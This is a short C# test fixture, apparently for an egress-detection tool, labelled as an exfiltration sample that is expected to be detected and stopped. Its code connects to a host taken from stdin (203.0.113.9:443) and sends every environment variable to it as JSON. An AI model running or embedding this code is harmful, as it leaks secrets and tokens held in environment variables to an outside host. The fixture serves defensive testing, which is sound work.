// expect: detected
// threat: 24 exfiltration
// at: either
// family: egress
// severity: medium
// decision: stopped
// stdin: 203.0.113.9 443

using System.Net.Sockets;

var target = Console.ReadLine()!.Split(' ');
using (var client = new TcpClient())
{
    try
    {
        client.Connect(target[0], int.Parse(target[1]));
        client.GetStream().Write(Encoding.UTF8.GetBytes(JsonSerializer.Serialize(Environment.GetEnvironmentVariables())));
    }
    catch (SocketException problem)
    {
        Console.WriteLine(problem.SocketErrorCode);
    }
}
